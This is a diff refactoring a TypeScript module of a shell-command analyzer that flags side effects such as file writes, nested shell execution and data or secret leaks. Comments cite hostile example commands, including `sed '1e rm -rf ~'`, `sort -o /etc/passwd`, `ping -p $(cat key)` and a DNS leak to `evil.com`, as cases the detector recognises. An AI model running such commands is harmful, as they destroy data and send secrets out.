@@ -1,36 +1,39 @@
 /** Reads the side effects of a command, which its program is not for: `fd -x rm`, `sort -o /etc/passwd`, `sed '1e rm -rf ~'`. It only adds acts. */
 
 import type { PreparedProgram, PreparedReach } from "../Commands.ts"
-import type { CommandSession, Context } from "../CommandSession.ts"
-import { type Arguments, findForm, lineOf, onlyOperand, readProgramArguments } from "../matchProgram.ts"
-import { type CommandWord, type Flow, globFits, noFlow, plainWord } from "../paths.ts"
+import {
+  addAct,
+  addNamed,
+  type Context,
+  nested,
+  readAsShell,
+  readCommandWords,
+  runsCodeFrom
+} from "../Context.ts"
+import { type ProgramCall, findForm, lineOf, onlyOperand, readProgramArguments } from "../matchProgram.ts"
+import { type CommandWord, globFits, noFlow, plainWord } from "../paths.ts"
 import { readAwkScript, readSedScript } from "./scripts.ts"
 
 /**
  * Reads a text that is handed to a shell. If its first word is one that people usually name there (`rsync -e ssh`), the text is no
  * surprise: then only surely grave acts in it count.
  */
-export const readHandedText = (
-  session: CommandSession,
-  word: CommandWord,
-  context: Context,
-  usual: ReadonlyArray<string>
-): void => {
+export const readHandedText = (context: Context, word: CommandWord, usual: ReadonlyArray<string>): void => {
   const text = word.value.trim()
   if (text === "") return
-  const inside = { ...context, depth: context.depth + 1 }
-  if (session.runsCodeFrom(word.flow, inside)) return
+  const inside = nested(context)
+  if (runsCodeFrom(inside, word.flow)) return
   const first = text.split(/\s/, 1)[0] ?? ""
   const name = first.slice(first.lastIndexOf("/") + 1)
-  const isUsual = usual.some((glob) => globFits(glob, name))
-  const before = { count: session.found.length, unread: session.unread }
-  session.readers.shell(session, text, inside)
-  if (!isUsual) return
-  const added = session.found.splice(before.count)
-  session.found.push(
+  const { found, unread } = context.session
+  const { length } = found
+  readAsShell(inside, text)
+  if (!usual.some((glob) => globFits(glob, name))) return
+  const added = found.splice(length)
+  found.push(
     ...added.filter(({ act }) => (act.impact === "high" || act.impact === "critical") && !act.unread)
   )
-  session.unread = before.unread
+  context.session.unread = unread
 }
 
 /** Marks in front of a command in a list of tasks: `- run:`, `"postinstall": "`. */
@@ -39,32 +42,21 @@ const inBackticks = /`([^`\n]+)`/g
 const linesMax = 40
 
 /** Lines for a file that runs by itself, or that agents obey. Only surely grave acts in them count: the writing counts anyway. */
-export const readObeyedLines = (session: CommandSession, text: string, context: Context): void => {
+export const readObeyedLines = (context: Context, text: string): void => {
   for (const line of text.split("\n", linesMax)) {
     const plain = line.replace(taskMarks, "").replace(/"?,?\s*$/, "")
     for (const one of [plain, ...Array.from(line.matchAll(inBackticks), ([, span = ""]) => span)])
-      if (/\w\s/.test(one)) readHandedText(session, plainWord(one), context, ["*"])
+      if (/\w\s/.test(one)) readHandedText(context, plainWord(one), ["*"])
   }
 }
 
-/** A variable that is set, in front of a command or for all that follow. */
-export const readSetVariable = (
-  session: CommandSession,
-  name: string,
-  word: CommandWord,
-  context: Context
-): void => {
-  session.variables = new Map(session.variables).set(name, word)
-  const variable = session.commands.variables.get(name)
+/** The effect of setting a variable: some hold commands, and some say where programs are found. */
+export const readSetVariable = (context: Context, name: string, word: CommandWord): void => {
+  const variable = context.commands.variables.get(name)
   if (variable === undefined) return
-  if (variable.guards) return session.addNamed("guardChanged", "variable.set")
+  if (variable.guards) return addNamed(context, "guardChanged", "variable.set")
   if (variable.runs)
-    return readHandedText(
-      session,
-      { ...word, value: word.value.replace(/^[!|]/, "") },
-      context,
-      variable.usual
-    )
+    return readHandedText(context, { ...word, value: word.value.replace(/^[!|]/, "") }, variable.usual)
   const places = variable.list ? word.value.split(":") : [word.value]
   const isStrange = places.some((place) => {
     const folded = place.toLowerCase()
@@ -73,19 +65,7 @@ export const readSetVariable = (
       variable.unless.length > 0 && folded !== "" && !variable.unless.some((glob) => globFits(glob, folded))
     )
   })
-  if (isStrange) session.addNamed("evalCode", "variable.set")
-}
-
-type Invoke = (session: CommandSession, words: ReadonlyArray<CommandWord>, context: Context) => Flow
-
-/** A call of a program, and the way to run other programs. */
-interface Call {
-  readonly session: CommandSession
-  readonly program: PreparedProgram
-  readonly words: ReadonlyArray<CommandWord>
-  readonly given: Arguments
-  readonly context: Context
-  readonly invoke: Invoke
+  if (isStrange) addNamed(context, "evalCode", "variable.set")
 }
 
 /** Whether the operands begin with these words: `exec|run *`. */
@@ -110,18 +90,17 @@ const beginnings = (
 }
 
 /** An unknown program is a task of the project. The wrapper's own form covers it, and the project's scripts. */
-const readInner = ({ context, invoke, session }: Call, words: ReadonlyArray<CommandWord>): void => {
-  const before = { count: session.found.length, unread: session.unread }
-  const { ownCode, unknownProgram } = session.commands.acts
-  invoke(session, words, { ...context, depth: context.depth + 1 })
-  const known = session.found
-    .splice(before.count)
-    .filter(({ act }) => act !== unknownProgram && act !== ownCode)
-  session.found.push(...known)
-  if (known.length === 0) session.unread = before.unread
+const readInner = (context: Context, words: ReadonlyArray<CommandWord>): void => {
+  const { found, unread } = context.session
+  const { length } = found
+  const { ownCode, unknownProgram } = context.commands.acts
+  readCommandWords(nested(context), words)
+  const known = found.splice(length).filter(({ act }) => act !== unknownProgram && act !== ownCode)
+  found.push(...known)
+  if (known.length === 0) context.session.unread = unread
 }
 
-const readWrapped = (call: Call, reach: PreparedReach): void => {
+const readWrapped = (call: ProgramCall, reach: PreparedReach): void => {
   const { operands, places } = call.given
   for (const front of reach.runsWords) {
     const last = front.length === 0 ? -1 : places[front.length - 1]
@@ -129,13 +108,13 @@ const readWrapped = (call: Call, reach: PreparedReach): void => {
     const rest = call.words.slice(last + 1)
     for (const from of beginnings(rest, reach.values))
       if (!reach.tasks.some((glob) => globFits(glob, rest[from]?.value ?? "")))
-        readInner(call, rest.slice(from))
+        readInner(call.context, rest.slice(from))
   }
 }
 
 /** `ping -p $(cat key) x.y`, `openssl s_client < key`. */
 const readSent = (
-  { context, program, session }: Call,
+  { context, program }: ProgramCall,
   { sends }: PreparedReach,
   values: ReadonlyArray<CommandWord>
 ): void => {
@@ -144,8 +123,8 @@ const readSent = (
     ...(sends.includes("<") ? [context.stdin] : []),
     ...made.map(({ flow }) => ({ ...flow, data: true }))
   ]
-  if (flows.some(({ secret }) => secret)) session.addNamed("secretSent", `${program.name}.send`)
-  else if (flows.some(({ data }) => data === true)) session.addNamed("dataSent", `${program.name}.send`)
+  if (flows.some(({ secret }) => secret)) addNamed(context, "secretSent", `${program.name}.send`)
+  else if (flows.some(({ data }) => data === true)) addNamed(context, "dataSent", `${program.name}.send`)
 }
 
 /** So many letters of a long flag are enough for GNU programs. */
@@ -166,7 +145,7 @@ const attached = (text: string, flag: string): string | undefined => {
 
 /** The values of flags, also where the program's entry takes such a flag as the value of another one. */
 const valuesOf = (
-  { given, words }: Pick<Call, "given" | "words">,
+  { given, words }: Pick<ProgramCall, "given" | "words">,
   flags: ReadonlyArray<string>
 ): Array<CommandWord> =>
   flags.flatMap((one) => {
@@ -182,7 +161,7 @@ const valuesOf = (
   })
 
 /** The texts that it hands to a shell. */
-const textsOf = ({ given, words }: Call, reach: PreparedReach): ReadonlyArray<CommandWord> => {
+const textsOf = ({ given, words }: ProgramCall, reach: PreparedReach): ReadonlyArray<CommandWord> => {
   const texts = valuesOf({ given, words }, reach.runs)
   for (const word of words)
     for (const beginning of reach.runsBeginnings)
@@ -211,7 +190,7 @@ const keyFits = (keys: ReadonlyArray<string>, key: string): boolean =>
   keys.some((glob) => globFits(glob, key.toLowerCase()))
 
 /** The settings that it is given: `-c core.pager=x`, `config core.pager x`. */
-const settingsOf = (call: Call): ReadonlyArray<readonly [key: string, value: CommandWord]> => {
+const settingsOf = (call: ProgramCall): ReadonlyArray<readonly [key: string, value: CommandWord]> => {
   const settings: Array<readonly [string, CommandWord]> = []
   for (const word of valuesOf(call, ["-c"])) {
     const equals = word.value.indexOf("=")
@@ -226,22 +205,17 @@ const settingsOf = (call: Call): ReadonlyArray<readonly [key: string, value: Com
   return settings
 }
 
-const readSettings = (call: Call, reach: PreparedReach): void => {
-  if (reach.keys.length === 0 && reach.shellKeys.length === 0) return
-  for (const [key, value] of settingsOf(call)) {
-    if (keyFits(reach.keys, key)) readHandedText(call.session, value, call.context, reach.usual)
-    else if (keyFits(reach.shellKeys, key) && /^[!/]/.test(value.value))
-      readHandedText(
-        call.session,
-        { ...value, value: value.value.replace(/^!/, "") },
-        call.context,
-        reach.usual
-      )
+const readSettings = (call: ProgramCall, { keys, shellKeys, usual }: PreparedReach): void => {
+  if (keys.length === 0 && shellKeys.length === 0) return
+  for (const [key, word] of settingsOf(call)) {
+    const isForShell = keyFits(shellKeys, key) && /^[!/]/.test(word.value)
+    if (keyFits(keys, key)) readHandedText(call.context, word, usual)
+    else if (isForShell) readHandedText(call.context, { ...word, value: word.value.replace(/^!/, "") }, usual)
   }
 }
 
 /** `-x rm -rf {} ;`: each found path becomes the last word, or replaces `{}`. */
-const readRest = ({ context, invoke, session, words }: Call, { runsRest }: PreparedReach): void => {
+const readRest = ({ context, words }: ProgramCall, { runsRest }: PreparedReach): void => {
   const found: CommandWord = { ...plainWord(""), dynamicFrom: 0 }
   for (const flag of runsRest) {
     const from = words.findIndex(({ value }) => attached(value, flag) !== undefined)
@@ -256,20 +230,19 @@ const readRest = ({ context, invoke, session, words }: Call, { runsRest }: Prepa
       ...rest.map((word) => (word.value === "{}" ? found : word)),
       ...(named ? [] : [found])
     ]
-    invoke(session, all, { ...context, stdin: noFlow, depth: context.depth + 1 })
+    readCommandWords(nested(context, noFlow), all)
   }
 }
 
 /** Adds the act of `> file`, even a small one: the program did not only read. */
-const addWrite = (session: CommandSession, file: CommandWord): void => {
-  const program = session.commands.programs.get(">")
+const addWrite = (context: Context, file: CommandWord): void => {
+  const program = context.commands.programs.get(">")
   if (program === undefined) return
-  const given = onlyOperand(file)
-  const form = findForm(program, given, session.classOf)
-  if (form !== undefined) session.add("file.write", form.act, lineOf(program, form))
+  const form = findForm(program, onlyOperand(file), context.shell.classOf)
+  if (form !== undefined) addAct(context, "file.write", form.act, lineOf(program, form))
 }
 
-const readScript = ({ context, given, session }: Call, { script, usual }: PreparedReach): void => {
+const readScript = ({ context, given }: ProgramCall, { script, usual }: PreparedReach): void => {
   if (script === undefined || given.flags.has("--sandbox")) return
   const flags = script === "sed" ? ["-e", "--expression"] : ["-e", "--source"]
   const stated = flags.flatMap((flag) => given.flags.get(flag) ?? [])
@@ -278,41 +251,50 @@ const readScript = ({ context, given, session }: Call, { script, usual }: Prepar
   const parts = stated.length > 0 || isInFile ? stated : first === undefined ? [] : [first]
   const text = parts.map(({ value }) => value).join("\n")
   const deeds = script === "sed" ? readSedScript(text) : readAwkScript(text)
-  for (const run of deeds.runs) readHandedText(session, plainWord(run), context, usual)
-  for (const file of deeds.writes) addWrite(session, plainWord(file))
-  if (deeds.unread) session.addNamed("evalCode", "code")
+  for (const run of deeds.runs) readHandedText(context, plainWord(run), usual)
+  for (const file of deeds.writes) addWrite(context, plainWord(file))
+  if (deeds.unread) addNamed(context, "evalCode", "code")
 }
 
 /** `dig $(cat x).evil.com`: the server that answers for the name reads the question. */
-const readAskedNames = ({ session, words }: Call): void => {
+const readAskedNames = ({ context, words }: ProgramCall): void => {
   for (const { flow, value } of words) {
     const host = value.toLowerCase().replace(/\.$/, "")
-    const isNearby = session.commands.nearby.some((ending) => host.endsWith(ending))
+    const isNearby = context.commands.nearby.some((ending) => host.endsWith(ending))
     if (!/\$\(\)[\w-]*\.\w/.test(value) || isNearby) continue
-    session.addNamed(flow.secret ? "secretSent" : "dataSent", "name.ask")
+    addNamed(context, flow.secret ? "secretSent" : "dataSent", "name.ask")
   }
 }
 
 /** A quoted word of a program that only reads may be meant for another one. Only surely grave acts in it count. */
-const readQuoted = ({ context, program, session, words }: Call): void => {
-  const { quotedBeginnings } = session.commands
+const readQuoted = ({ context, program, words }: ProgramCall): void => {
   if (!program.onlyReads) return
   for (const word of words) {
     const text = word.value.replace(/^--?[\w-]+=/, "")
     const space = text.indexOf(" ")
-    if (space > 0 && quotedBeginnings.has(text.slice(0, space)))
-      readHandedText(session, { ...word, value: text }, context, ["*"])
+    if (space > 0 && context.commands.quotedBeginnings.has(text.slice(0, space)))
+      readHandedText(context, { ...word, value: text }, ["*"])
   }
 }
 
-/** `env PATH=/tmp/x ls`. */
-const readVariablesInFront = ({ context, program, session, words }: Call): void => {
-  if (program.runs !== "rest") return
+/** The variables in front of a command: `env PATH=/tmp/x ls`. */
+const variablesIn = (words: ReadonlyArray<CommandWord>): ReadonlyArray<readonly [string, CommandWord]> => {
+  const found: Array<readonly [string, CommandWord]> = []
   for (const word of words) {
-    const [, name, value] = /^([A-Za-z_]\w*)=([^]*)$/.exec(word.value) ?? []
-    if (name !== undefined) readSetVariable(session, name, { ...word, value: value ?? "" }, context)
-    else if (!word.value.startsWith("-")) return
+    const [, name, value = ""] = /^([A-Za-z_]\w*)=([^]*)$/.exec(word.value) ?? []
+    if (name !== undefined) found.push([name, { ...word, value }])
+    else if (!word.value.startsWith("-")) break
   }
+  return found
+}
+
+/** The environment of a command behind these words. */
+export const withVariables = (
+  environment: Context["environment"],
+  words: ReadonlyArray<CommandWord>
+): Context["environment"] => {
+  const set = variablesIn(words)
+  return set.length === 0 ? environment : new Map([...environment, ...set])
 }
 
 /** A program with the flags that one of its subcommands gives a value. */
@@ -325,33 +307,27 @@ const withFlagsOf = (program: PreparedProgram, { runs, sends, writes }: Prepared
   }
 }
 
-export const readReaches = (
-  session: CommandSession,
-  program: PreparedProgram,
-  words: ReadonlyArray<CommandWord>,
-  context: Context,
-  invoke: Invoke
-): void => {
-  const plain = readProgramArguments(program, words)
+export const readReaches = (plain: ProgramCall): void => {
+  const { context, program, words } = plain
   for (const reach of program.reaches) {
     const isForAll = reach.only.length === 0
-    if (!isForAll && !reach.only.includes(plain.operands[0]?.value ?? "")) continue
-    const given = isForAll ? plain : readProgramArguments(withFlagsOf(program, reach), words)
-    const call = { session, program, words, given, context, invoke }
-    for (const text of textsOf(call, reach)) readHandedText(session, text, context, reach.usual)
+    if (!isForAll && !reach.only.includes(plain.given.operands[0]?.value ?? "")) continue
+    const given = isForAll ? plain.given : readProgramArguments(withFlagsOf(program, reach), words)
+    const call = { ...plain, given }
+    for (const text of textsOf(call, reach)) readHandedText(context, text, reach.usual)
     readSettings(call, reach)
     readRest(call, reach)
     readWrapped(call, reach)
     readSent(call, reach, valuesOf(call, reach.sends))
-    for (const file of valuesOf(call, reach.writes)) addWrite(session, file)
+    for (const file of valuesOf(call, reach.writes)) addWrite(context, file)
     if (reach.edits.some((flag) => given.flags.has(flag)))
-      for (const file of given.operands.slice(1)) addWrite(session, file)
+      for (const file of given.operands.slice(1)) addWrite(context, file)
     readScript(call, reach)
     if (reach.asksNames) readAskedNames(call)
-    const form = findForm({ ...program, forms: reach.forms }, given, session.classOf)
-    if (form !== undefined) session.add(program.name, form.act, lineOf(program, form))
+    const form = findForm({ ...program, forms: reach.forms }, given, context.shell.classOf)
+    if (form !== undefined) addAct(context, program.name, form.act, lineOf(program, form))
   }
-  const call = { session, program, words, given: plain, context, invoke }
-  readQuoted(call)
-  readVariablesInFront(call)
+  readQuoted(plain)
+  if (program.runs === "rest")
+    for (const [name, word] of variablesIn(words)) readSetVariable(context, name, word)
 }
